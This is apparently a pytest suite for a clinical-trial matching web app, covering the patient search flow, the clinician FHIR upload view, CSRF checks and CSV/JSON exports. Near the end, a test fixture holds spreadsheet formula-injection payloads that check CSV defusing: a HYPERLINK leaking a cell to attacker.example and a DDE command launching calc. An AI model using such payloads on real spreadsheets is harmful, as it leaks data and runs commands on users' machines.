"""The two patient flows of the web app, end to end over the demo store: "Find trials for me" and the clinician view.

Forms are submitted the way a browser without JavaScript submits them: every field of the rendered form
(hidden ones included) with the pressed button's name and value. So these tests also show that the pages
keep all state in the form and nothing on the server.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import itertools
import json
import logging
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import markupsafe
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from trialmatch.cli import app as cli_app
from trialmatch.criteria.compiler import compile_criteria
from trialmatch.matching.export import CSV_COLUMNS, defuse, matches_csv
from trialmatch.matching.match_trial import match_trial
from trialmatch.matching.patient_view import PatientView
from trialmatch.matching.trial_plan import build_plan
from trialmatch.patients.load import read_patient_text
from trialmatch.places import parse_place
from trialmatch.screening import ScreeningQuery, screen
from trialmatch.store.sqlite import TrialStore
from trialmatch.trials.record import AgeLimit, Eligibility, OverallStatus, Provenance, Site, Trial
from trialmatch.web import create_app

FHIR = sorted((Path(__file__).resolve().parents[2] / "shared" / "patients" / "fhir").glob("*.json"))
DEMO_CHILD = Path(__file__).resolve().parents[1] / "src" / "trialmatch" / "data" / "patients" / \
    "demo-child-relapsed-b-all.yaml"
AS_OF = "2026-06-01"
#: A 10-year-old boy with B-ALL in first relapse, living in Leeds; closed trials included, because most of the
#: demo corpus has finished recruiting.
CHILD = {"age": "10", "sex": "male", "diagnosis": "b_all", "disease_status": "first_relapse", "near": "Leeds, UK",
         "include_closed": "1"}
OPEN_STATUSES = {"RECRUITING", "NOT_YET_RECRUITING", "ENROLLING_BY_INVITATION"}


# --- A browser without JavaScript -------------------------------------------------------------------------


class _Page(HTMLParser):
    """One page's forms (the fields a browser would send, and the submit buttons) and its tagged elements."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: dict[str, dict] = {}
        self.tagged: list[tuple[str, dict[str, str]]] = []
        self._form: dict | None = None
        self._select: list | None = None
        self._textarea: list | None = None
        self._button: dict | None = None
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if "data-testid" in a:
            self.tagged.append((a["data-testid"], a))
        if tag == "form":
            self._form = self.forms.setdefault(a.get("id") or a.get("class", ""), {
                "action": a.get("action", ""), "fields": [], "buttons": []})
        if self._form is None:
            return
        fields = self._form["fields"]
        if tag == "input" and a.get("name"):
            kind = a.get("type", "text")
            if (kind in ("radio", "checkbox") and "checked" not in a) or kind in ("submit", "button", "file"):
                return
            fields.append((a["name"], a.get("value", "")))
        elif tag == "select":
            self._select = [a.get("name"), None, None]
        elif tag == "option" and self._select is not None:
            if self._select[2] is None:
                self._select[2] = a.get("value", "")
            if "selected" in a:
                self._select[1] = a.get("value", "")
        elif tag == "textarea":
            self._textarea = [a.get("name"), ""]
        elif tag == "button":
            self._button = {"name": a.get("name", ""), "value": a.get("value", ""),
                            "formaction": a.get("formaction", ""), "text": ""}

    def handle_endtag(self, tag: str) -> None:
        if self._form is None:
            return
        if tag == "form":
            self._form = None
        elif tag == "select" and self._select is not None:
            name, chosen, first = self._select
            self._form["fields"].append((name, chosen if chosen is not None else first or ""))
            self._select = None
        elif tag == "textarea" and self._textarea is not None:
            self._form["fields"].append(tuple(self._textarea))
            self._textarea = None
        elif tag == "button" and self._button is not None:
            self._button["text"] = " ".join(self._button["text"].split())
            self._form["buttons"].append(self._button)
            self._button = None

    def handle_data(self, data: str) -> None:
        if self._textarea is not None:
            self._textarea[1] += data
        if self._button is not None:
            self._button["text"] += data

    def all(self, testid: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.tagged if name == testid]

    def one(self, testid: str) -> dict[str, str]:
        found = self.all(testid)
        assert len(found) == 1, f"{len(found)} elements with data-testid={testid}"
        return found[0]


def press(client: TestClient, page: str, button: str, form_id: str = "find-form",
          changes: dict[str, str] | None = None):
    """Submit ``form_id`` with the button whose text (or value) is ``button``, as a browser would."""
    form = _Page(page).forms[form_id]
    pressed = next((b for b in form["buttons"] if button in (b["text"], b["value"])), None)
    assert pressed is not None, f"no button {button!r}; buttons: {[b['text'] for b in form['buttons']]}"
    fields: dict[str, list[str]] = {}
    changed = dict(changes or {})
    for name, value in form["fields"]:
        fields.setdefault(name, []).append(changed.pop(name, value))
    for name, value in changed.items():
        fields[name] = [value]
    if pressed["name"]:
        fields.setdefault(pressed["name"], []).append(pressed["value"])
    url = (pressed["formaction"] or form["action"]).split("#")[0]
    return client.post(url, data=fields)


def counts(page: str) -> tuple[int, int, int]:
    found = _Page(page).one("match-counts")
    return int(found["data-eligible"]), int(found["data-possibly-eligible"]), int(found["data-not-eligible"])


def question(page: str) -> tuple[str, str] | None:
    found = _Page(page).all("question-text")
    if not found:
        return None
    text = page.split('data-testid="question-text"', 1)[1].split(">", 1)[1].split("</legend>", 1)[0]
    return found[0]["data-question-id"], html.unescape(text)


def listed(page: str, testid: str = "match") -> list[dict[str, str]]:
    return _Page(page).all(testid)


def section(page: str, testid: str) -> str:
    """The unescaped text of the element tagged ``testid`` (up to the next section end)."""
    start = page.index(f'data-testid="{testid}"')
    return html.unescape(page[start:page.index("</section>", start) if "</section>" in page[start:] else None])


# --- Fixtures ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def client(demo_store_path: Path) -> Iterator[TestClient]:
    with TestClient(create_app(demo_store_path)) as test_client:
        yield test_client


@pytest.fixture(scope="module")
def find_start(client: TestClient) -> str:
    """The /find page as first opened (it sets the CSRF cookie)."""
    response = client.get("/find")
    assert response.status_code == 200
    return response.text


@pytest.fixture(scope="module")
def child_results(client: TestClient, find_start: str) -> str:
    response = press(client, find_start, "Find trials", changes=CHILD)
    assert response.status_code == 200, response.text[:500]
    return response.text


def _clinician(client: TestClient, filename: str | None = None, content: bytes | None = None,
               **fields: str):
    page = client.get("/clinician").text
    token = _Page(page).forms["clinician-form"]["fields"][0][1]
    data = {"csrf_token": token, "status": "any", "as_of": AS_OF, "limit": "20", **fields}
    files = {"record_file": (filename or "", content or b"", "application/octet-stream")}
    return client.post("/clinician", data=data, files=files)


# --- Find trials for me -----------------------------------------------------------------------------------


def test_find_form_offers_the_diagnoses_and_stages_in_plain_words(find_start: str) -> None:
    page = _Page(find_start)
    assert page.forms["find-form"]["action"].startswith("/find")
    for concept in ("b_all", "all", "aml", "cml", "hodgkin_lymphoma", "breast_cancer", "lung_cancer"):
        assert f'value="{concept}"' in find_start
    for label in ("Leukaemias", "Lymphomas", "Solid cancers and tumours"):
        assert f'<optgroup label="{label}">' in find_start
    for stage in ("Newly diagnosed", "First relapse", "Second relapse", "Third or later relapse", "Refractory",
                  "Relapsed after a stem cell (bone marrow) transplant", "MRD positive"):
        assert stage in html.unescape(find_start)
    # Every visible field has a label.
    for field_id in ("age", "diagnosis", "diagnosis_text", "near", "include_closed"):
        assert f'<label for="{field_id}"' in find_start


def test_find_lists_ranked_matches_with_sites_and_the_next_question(client: TestClient, demo_store_path: Path,
                                                                   child_results: str) -> None:
    eligible, possible, ruled_out = counts(child_results)
    considered = int(_Page(child_results).one("match-counts")["data-considered"])
    assert considered == eligible + possible + ruled_out and possible > 10
    matches = listed(child_results)
    assert len(matches) == min(20, eligible + possible)
    # Ranked: eligible before possibly eligible, and among those the most settled first.
    order = {"eligible": 0, "possibly_eligible": 1}
    verdicts = [order[m["data-verdict"]] for m in matches]
    assert verdicts == sorted(verdicts)
    shares = [int(s) / int(t) for s, t in _settled(child_results)]
    possible_shares = [share for share, m in zip(shares, matches, strict=True) if m["data-verdict"] != "eligible"]
    assert all(a >= b - 1e-3 for a, b in itertools.pairwise(possible_shares))
    # The same trials, in the same order, as the library screening of the same person.
    facts = read_patient_text(_save(child_results, client), "saved")
    with TrialStore(demo_store_path) as store:
        expected = screen(store, facts, ScreeningQuery(statuses=[], near=parse_place("Leeds, UK")))
    assert [m["data-trial-id"] for m in matches] == [m.trial_id for m in expected.matches]
    # Nearest sites with distances from Leeds; every title links to its trial page.
    text = html.unescape(child_results)
    assert len(listed(child_results, "nearest-site")) >= 1 and " km (" in text and "miles)" in text
    for match in matches:
        assert f'href="/trials/{match["data-trial-id"]}"' in child_results
    asked = question(child_results)
    assert asked is not None and asked[0] == expected.next_question.question_id
    assert "could help decide" in section(child_results, "next-question")


def _settled(page: str) -> list[tuple[str, str]]:
    return re.findall(r"Checked (\d+) of (\d+) requirements", page)


def test_find_shows_only_open_trials_unless_asked(client: TestClient, find_start: str, child_results: str) -> None:
    only_open = press(client, find_start, "Find trials", changes={**CHILD, "include_closed": ""})
    assert only_open.status_code == 200
    considered_open = int(_Page(only_open.text).one("match-counts")["data-considered"])
    considered_all = int(_Page(child_results).one("match-counts")["data-considered"])
    assert considered_open < considered_all
    assert all(m["data-status"] in OPEN_STATUSES for m in listed(only_open.text))


def test_answering_re_ranks_and_not_sure_never_rules_a_trial_out(client: TestClient, child_results: str) -> None:
    before = counts(child_results)
    question_id, question_text = question(child_results)  # type: ignore[misc]
    settles = int(section(child_results, "next-question").split("could help decide")[1].split()[0])
    after = {answer: press(client, child_results, answer) for answer in ("Yes", "No", "Not sure")}
    for response in after.values():
        assert response.status_code == 200
    # One of Yes / No fails the criterion in every trial where it was open: those trials are ruled out.
    changed = [counts(after[a].text) for a in ("Yes", "No") if counts(after[a].text) != before]
    assert changed and all(0 < c[2] - before[2] <= settles for c in changed)
    assert all(sum(c) == sum(before) for c in changed)
    # "Not sure" changes nothing, and the next question is a different one.
    not_sure = after["Not sure"].text
    assert counts(not_sure) == before
    assert [m["data-trial-id"] for m in listed(not_sure)] == [m["data-trial-id"] for m in listed(child_results)]
    assert question(not_sure)[0] != question_id  # type: ignore[index]
    answered = listed(not_sure, "answer")
    assert [(a["data-question-id"], a["data-answer"]) for a in answered] == [(question_id, "not_sure")]
    assert question_text in section(not_sure, "answered")


def test_a_run_of_not_sure_answers_keeps_every_trial(client: TestClient, child_results: str) -> None:
    page, before = child_results, counts(child_results)
    asked = set()
    for _ in range(5):
        current = question(page)
        if current is None:
            break
        asked.add(current[0])
        page = press(client, page, "Not sure").text
        assert counts(page) == before
    assert len(asked) == 5 and len(listed(page, "answer")) == 5


def test_answers_can_be_changed_and_cleared(client: TestClient, child_results: str) -> None:
    before = counts(child_results)
    answered_no = press(client, child_results, "No").text
    answered_yes = press(client, child_results, "Yes").text
    not_sure = press(client, child_results, "Not sure").text
    changed = press(client, not_sure, "Change to No").text
    assert counts(changed) == counts(answered_no)
    assert [a["data-answer"] for a in listed(changed, "answer")] == ["no"]
    changed_again = press(client, changed, "Change to Yes").text
    assert counts(changed_again) == counts(answered_yes)
    cleared = press(client, changed_again, "Clear this answer").text
    assert counts(cleared) == before and listed(cleared, "answer") == []


def test_skipping_asks_the_next_question_and_skipped_ones_come_back(client: TestClient, child_results: str) -> None:
    first = question(child_results)
    skipped = press(client, child_results, "Skip this question").text
    assert counts(skipped) == counts(child_results)
    assert question(skipped) is not None and question(skipped)[0] != first[0]  # type: ignore[index]
    assert listed(skipped, "answer") == []
    again = press(client, skipped, "Skip this question").text
    assert question(again)[0] not in {first[0], question(skipped)[0]}  # type: ignore[index]


def test_nothing_is_kept_between_requests(client: TestClient, child_results: str, find_start: str) -> None:
    press(client, child_results, "No")
    fresh = press(client, find_start, "Find trials", changes=CHILD).text
    assert counts(fresh) == counts(child_results) and listed(fresh, "answer") == []


def _save(page: str, client: TestClient) -> str:
    response = press(client, page, "Save my answers")
    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["content-type"].startswith("application/json")
    return response.text


def test_saved_answers_are_a_profile_the_cli_reads(client: TestClient, child_results: str, demo_store_path: Path,
                                                  tmp_path: Path) -> None:
    answered = press(client, child_results, "No").text
    saved = _save(answered, client)
    profile = json.loads(saved)
    assert profile["sex"] == "male" and profile["age"]["value"] == 10
    assert profile["conditions"][0]["concept"] == "b_all" and profile["conditions"][0]["relapse_number"] == 1
    assert [a["answer"] for a in profile["answers"]] == ["no"]
    assert profile["location"]["text"] == "Leeds, UK"
    path = tmp_path / "saved.json"
    path.write_text(saved, "utf-8")
    result = CliRunner().invoke(cli_app, ["match", str(path), "--db", str(demo_store_path), "--status", "any",
                                          "--json"])
    assert result.exit_code == 0, result.output
    cli = json.loads(result.stdout)
    assert tuple(cli["counts"][k] for k in ("eligible", "possibly_eligible", "not_eligible")) == counts(answered)
    assert [m["trial_id"] for m in cli["matches"]] == [m["data-trial-id"] for m in listed(answered)]


@pytest.mark.parametrize(("changes", "field", "message"), [
    ({"age": "ten"}, "age", "Enter the age as a number of years"),
    ({"age": ""}, "age", "Enter an age in years"),
    ({"age": "130"}, "age", "over 120 years"),
    ({"near": "Atlantis Under The Sea"}, "near", "We can't find that place"),
    ({"diagnosis": ""}, "diagnosis", "Choose the diagnosis from the list"),
    ({"diagnosis": "other", "diagnosis_text": "flibbertigibbet"}, "diagnosis_text", "We don't recognise"),
])
def test_find_validation_errors_show_next_to_the_field_and_keep_the_form(
        client: TestClient, find_start: str, changes: dict[str, str], field: str, message: str) -> None:
    response = press(client, find_start, "Find trials", changes={**CHILD, **changes})
    assert response.status_code == 422
    page = response.text
    assert "Traceback" not in page
    error = page.split(f'id="{field}-error">', 1)[1].split("</p>", 1)[0]
    assert message in html.unescape(error)
    assert f'aria-describedby="{field}-hint {field}-error" aria-invalid="true"' in page
    summary = page.split('data-testid="error-summary"', 1)[1].split("</div>", 1)[0]
    assert message in html.unescape(summary)
    # What was typed is kept, and there are no results.
    kept = dict(_Page(page).forms["find-form"]["fields"])
    for name, value in {**CHILD, **changes}.items():
        assert kept.get(name) == value, name
    assert 'data-testid="matches"' not in page


def test_find_understands_months_and_typed_diagnoses(client: TestClient, find_start: str) -> None:
    baby = press(client, find_start, "Find trials", changes={
        "age": "8 months", "diagnosis": "other", "diagnosis_text": "infant acute lymphoblastic leukaemia",
        "include_closed": "1"})
    assert baby.status_code == 200, html.unescape(baby.text)[:2000]
    assert sum(counts(baby.text)) > 0
    saved = json.loads(_save(baby.text, client))
    assert saved["age"] == {"value": 8.0, "unit": "months", "as_of": dt.date.today().isoformat(),
                            "source": {"kind": "profile", "reference": "find form: age"}}
    assert saved["conditions"][0]["concept"] == "all"


def test_forms_without_a_valid_csrf_token_are_refused(client: TestClient, find_start: str) -> None:
    fields = {**CHILD, "action": "search"}
    assert client.post("/find", data=fields).status_code == 403
    assert client.post("/find", data={**fields, "csrf_token": "forged"}).status_code == 403
    with TestClient(client.app) as stranger:  # a token from this page, but another browser's cookie
        token = dict(_Page(find_start).forms["find-form"]["fields"])["csrf_token"]
        stranger.get("/find")
        refused = stranger.post("/find", data={**fields, "csrf_token": token})
        assert refused.status_code == 403 and "This form has expired" in refused.text
    assert client.post("/find/save", data=fields).status_code == 403
    assert client.post("/clinician", files={"record_file": ("p.json", b"{}")}).status_code == 403
    assert client.post("/clinician/export?format=csv", files={"record_file": ("p.json", b"{}")}).status_code == 403


# --- Clinician view ---------------------------------------------------------------------------------------


def test_the_shared_fhir_bundles_are_all_here() -> None:
    assert len(FHIR) == 6


@pytest.mark.parametrize("bundle", FHIR, ids=lambda p: p.stem)
def test_clinician_screens_each_fhir_bundle(client: TestClient, demo_store_path: Path, bundle: Path) -> None:
    content = bundle.read_bytes()
    response = _clinician(client, bundle.name, content, limit="100", show_not_eligible="1")
    assert response.status_code == 200, html.unescape(response.text)[:3000]
    page = response.text
    facts = read_patient_text(content.decode("utf-8-sig"), bundle.name)
    query = ScreeningQuery(as_of=dt.date.fromisoformat(AS_OF), statuses=[], limit=100, include_not_eligible=True,
                           near=parse_place(f"{facts.location.lat},{facts.location.lon}") if facts.location else None)
    with TrialStore(demo_store_path) as store:
        expected = screen(store, facts, query)
    results = listed(page, "trial-result")
    assert [r["data-trial-id"] for r in results] == [m.trial_id for m in expected.matches]
    assert [r["data-verdict"] for r in results] == [m.verdict.value for m in expected.matches]
    assert counts(page) == tuple(expected.counts[k] for k in ("eligible", "possibly_eligible", "not_eligible"))
    # Every criterion of every trial, with its verdict; the deciding ones marked.
    criteria = listed(page, "criterion")
    assert len(criteria) == sum(len(m.criteria) for m in expected.matches)
    assert sum(a.get("data-decides") == "true" for a in criteria) == sum(len(m.deciding) for m in expected.matches)
    for match in expected.matches:
        for result in match.criteria[:3]:
            assert str(markupsafe.escape(result.text)) in page
            assert str(markupsafe.escape(result.rule)) in page
    if expected.counts["not_eligible"]:
        assert 'data-testid="deciding"' in page and "deciding-row" in page
    # What the reader could not use is listed.
    warnings = section(page, "reader-warnings")
    for warning in facts.warnings:
        assert warning in warnings
    if facts.birth_date is None:
        assert "no birth date" in warnings
    assert 'data-testid="top-questions"' in page and 'data-testid="open-questions"' in page


def test_clinician_never_logs_the_record(client: TestClient, caplog: pytest.LogCaptureFixture) -> None:
    bundle = next(p for p in FHIR if p.name == "mitre-patient_data.json")
    with caplog.at_level(logging.DEBUG):
        assert _clinician(client, bundle.name, bundle.read_bytes()).status_code == 200
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "Corwin846" not in logged and "1966-08-03" not in logged


def test_clinician_reads_an_uploaded_yaml_profile_and_a_pasted_one(client: TestClient) -> None:
    uploaded = _clinician(client, DEMO_CHILD.name, DEMO_CHILD.read_bytes(), near="Leeds, UK")
    assert uploaded.status_code == 200, html.unescape(uploaded.text)[:2000]
    results = listed(uploaded.text, "trial-result")
    assert results and "Distances from Leeds" in uploaded.text
    assert f"as of {AS_OF}" in uploaded.text
    pasted = _clinician(client, record_text=DEMO_CHILD.read_text("utf-8"), near="Leeds, UK")
    assert pasted.status_code == 200
    assert listed(pasted.text, "trial-result") == results
    assert "The pasted record was judged" in html.unescape(pasted.text)
    # The record stays in the form for another run with other options.
    assert "demo-child-relapsed-b-all" in dict(_Page(pasted.text).forms["clinician-form"]["fields"])["record_text"]


@pytest.mark.parametrize(("name", "content", "message"), [
    ("bad.json", b'{"resourceType": "Bundle", "entry": [', "not valid JSON"),
    ("no-entries.json", b'{"resourceType": "Bundle", "type": "collection", "entry": []}', "the Bundle has no entries"),
    ("basic.json", b'{"resourceType": "Basic", "id": "x"}', "holds no patient facts"),
    ("array.json", b"[1, 2, 3]", "a profile must be an object"),
    ("words.txt.yaml", b"just some words about a patient", "If this is a clinical note"),
    ("empty.json", b"", "is empty"),
    ("blank.json", b"  \n\t\n", "is empty"),
    ("scan.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00", "not a text file"),
    ("latin1.yaml", "sex: female\nconditions: [Leucémie aiguë]\n".encode("latin-1"), "not UTF-8 text"),
    ("bad-profile.yaml", b"sex: sometimes\nage: 34\n", "sex: Input should be"),
    ("fhir-but-list.json", b'[{"resourceType": "Patient"}]', "a profile must be an object"),
    ("bundle.xml", b'<Bundle xmlns="http://hl7.org/fhir"><entry/></Bundle>', "FHIR XML (or HTML) is not supported"),
])
def test_malformed_uploads_get_a_clear_message(client: TestClient, name: str, content: bytes, message: str) -> None:
    response = _clinician(client, name, content)
    assert response.status_code == 422
    page = html.unescape(response.text)
    assert "Traceback" not in page and 'role="alert"' in page
    error = page.split('id="record-error">', 1)[1].split("</p>", 1)[0]
    assert message in error and error.startswith(f"The file {name}")
    assert 'data-testid="clinician-results"' not in page


def test_text_given_as_fhir_is_never_taken_for_a_file_path(client: TestClient) -> None:
    # The FHIR reader takes a string that isn't JSON for a path; the page must parse the text itself.
    response = _clinician(client, record_text=str(DEMO_CHILD), kind="fhir")
    assert response.status_code == 422
    assert "The pasted record: not valid JSON" in html.unescape(response.text)
    assert "demo-child-relapsed-b-all" not in response.text.replace(str(DEMO_CHILD), "")


def test_clinician_asks_for_a_record_and_checks_the_options(client: TestClient) -> None:
    nothing = _clinician(client)
    assert nothing.status_code == 422 and "Choose a file to upload, or paste the record" in html.unescape(nothing.text)
    bad = _clinician(client, DEMO_CHILD.name, DEMO_CHILD.read_bytes(), as_of="2026-13-45",
                     near="Atlantis Under The Sea", limit="0")
    assert bad.status_code == 422
    for field in ("as_of", "near", "limit"):
        assert f'id="{field}-error"' in bad.text
    assert dict(_Page(bad.text).forms["clinician-form"]["fields"])["near"] == "Atlantis Under The Sea"


def test_too_large_uploads_get_the_apps_413(client: TestClient) -> None:
    limit = client.app.state.settings.max_upload_bytes  # type: ignore[attr-defined]
    response = _clinician(client, "huge.json", b"{" + b" " * limit + b"}")
    assert response.status_code == 413
    assert "Upload too large" in response.text and "Traceback" not in response.text


# --- Exports ----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def screened_bundle(client: TestClient) -> str:
    bundle = next(p for p in FHIR if p.name == "mitre-patient_data.json")
    response = _clinician(client, bundle.name, bundle.read_bytes(), show_not_eligible="1", limit="40",
                          near="Boston, US")
    assert response.status_code == 200
    return response.text


def _export(client: TestClient, page: str, fmt: str):
    form = _Page(page).forms["export-form"]
    button = next(b for b in form["buttons"] if b["text"] == f"Download {fmt.upper()}")
    return client.post(button["formaction"], data=dict(form["fields"]),
                       files={"record_file": ("", b"", "application/octet-stream")})


def test_json_export_holds_every_verdict_but_not_the_record(client: TestClient, screened_bundle: str) -> None:
    response = _export(client, screened_bundle, "json")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == f'attachment; filename="trialmatch-screening-{AS_OF}.json"'
    exported = json.loads(response.text)
    assert exported["as_of"] == AS_OF and exported["options"]["near"].startswith("Boston")
    assert tuple(exported["counts"][k] for k in ("eligible", "possibly_eligible", "not_eligible")) == \
        counts(screened_bundle)
    assert [m["trial_id"] for m in exported["matches"]] == \
        [r["data-trial-id"] for r in listed(screened_bundle, "trial-result")]
    for match in exported["matches"]:
        assert match["criteria"]
        for criterion in match["criteria"]:
            assert {"verdict", "evidence", "text", "rule", "decides"} <= set(criterion)
    assert any(m["distance_km"] is not None for m in exported["matches"])
    assert any(e["source"].startswith("Observation/") for m in exported["matches"] for c in m["criteria"]
               for e in c["evidence"])
    assert exported["warnings"] and exported["next_questions"]
    assert "Corwin846" not in response.text and "Wava789" not in response.text


def test_csv_export_has_one_row_per_trial_and_criterion(client: TestClient, screened_bundle: str) -> None:
    exported = json.loads(_export(client, screened_bundle, "json").text)
    response = _export(client, screened_bundle, "csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == f'attachment; filename="trialmatch-screening-{AS_OF}.csv"'
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    expected = [(m["trial_id"], c["id"], c["verdict"]) for m in exported["matches"] for c in m["criteria"]]
    assert [(r["trial_id"], r["criterion_id"], r["criterion_verdict"]) for r in rows] == expected
    deciding = {(m["trial_id"], c["id"]) for m in exported["matches"] for c in m["criteria"] if c["decides"]}
    assert {(r["trial_id"], r["criterion_id"]) for r in rows if r["decides"] == "yes"} == deciding
    texts = {(m["trial_id"], c["id"]): c["text"] for m in exported["matches"] for c in m["criteria"]}
    assert all(defuse(texts[(r["trial_id"], r["criterion_id"])]) == r["source_text"] for r in rows)


def test_defuse_prefixes_every_formula_start() -> None:
    for cell in ("=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1"):
        assert defuse(cell) == "'" + cell
    for cell in ("B-ALL", "ALT ≤ 3 × ULN", "", "1-2 years", "'quoted"):
        assert defuse(cell) == cell


HOSTILE_CRITERIA = """Inclusion Criteria:
- =HYPERLINK("http://attacker.example/?leak="&A1,"Click for results")
- Diagnosis of B-cell acute lymphoblastic leukaemia in first relapse
- Age 1 to 21 years

Exclusion Criteria:
- @SUM(1+1)*cmd|' /C calc'!A0
- +1-1 active hepatitis B infection
- -2+3 pregnancy
"""


def _hostile_trial() -> Trial:
    return Trial(
        id="TEST-CSV-1", brief_title='=HYPERLINK("http://attacker.example","Relapsed B-ALL trial")',
        overall_status=OverallStatus.RECRUITING, conditions=["B-cell acute lymphoblastic leukaemia"],
        eligibility=Eligibility(criteria_text=HOSTILE_CRITERIA, minimum_age=AgeLimit(value=1, unit="Years"),
                                maximum_age=AgeLimit(value=21, unit="Years")),
        sites=[Site(facility="-Leeds General Infirmary", city="Leeds", country="United Kingdom")],
        provenance=Provenance(source="file", location="tests/test_web_flows.py"))


def test_csv_export_defuses_formulas_written_in_trial_records(tmp_path: Path) -> None:
    path = tmp_path / "hostile.db"
    with TrialStore(path) as store:
        store.save(_hostile_trial())
    with TestClient(create_app(path)) as hostile_client:
        page = _clinician(hostile_client, DEMO_CHILD.name, DEMO_CHILD.read_bytes(), near="Leeds, UK",
                          show_not_eligible="1")
        assert page.status_code == 200 and listed(page.text, "trial-result")
        # On the page the hostile text is shown as text, escaped.
        assert '=HYPERLINK("http://attacker.example' in html.unescape(page.text)
        response = _export(hostile_client, page.text, "csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://attacker.example\",\"Relapsed B-ALL trial\")" in cells
    assert "'-Leeds General Infirmary, Leeds, United Kingdom" in cells
    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
    assert any(cell.startswith("'+1-1 active hepatitis B") for cell in cells)


def test_matches_csv_of_a_compiled_trial_matches_its_criteria() -> None:
    trial = _hostile_trial()
    plan = build_plan(trial, compile_criteria(HOSTILE_CRITERIA))
    facts = read_patient_text(DEMO_CHILD.read_text("utf-8"), "demo child")
    match = match_trial(PatientView(facts, dt.date.fromisoformat(AS_OF)), plan)
    rows = list(csv.DictReader(io.StringIO(matches_csv([match]).removeprefix("\ufeff"))))
    assert len(rows) == len(match.criteria) >= 5
    assert {r["source_text"] for r in rows} == {defuse(c.text) for c in match.criteria}


def test_find_words_questions_for_a_carer_and_answers_count_the_same(client: TestClient, find_start: str,
                                                                     child_results: str) -> None:
    carer = press(client, find_start, "Find trials", changes={**CHILD, "perspective": "carer"})
    assert carer.status_code == 200
    own_id, own_text = question(child_results)  # type: ignore[misc]
    carer_id, carer_text = question(carer.text)  # type: ignore[misc]
    assert carer_id == own_id and carer_text != own_text
    assert carer_text.startswith(("Is the patient", "Has the patient", "Does the patient", "Was the patient",
                                  "Are the patient", "If the patient", "Does this apply to the patient"))
    # The same answer gives the same counts whoever answered; the answered list keeps the carer's wording.
    for answer in ("Yes", "No"):
        mine, theirs = press(client, child_results, answer).text, press(client, carer.text, answer).text
        assert counts(mine) == counts(theirs)
    answered = press(client, carer.text, "Not sure").text
    assert carer_text in section(answered, "answered") and own_text not in section(answered, "answered")
    assert question(answered)[1].startswith(("Is the patient", "Has the patient", "Does the patient",  # type: ignore[index]
                                             "Was the patient", "Are the patient", "If the patient",
                                             "Does this apply to the patient"))
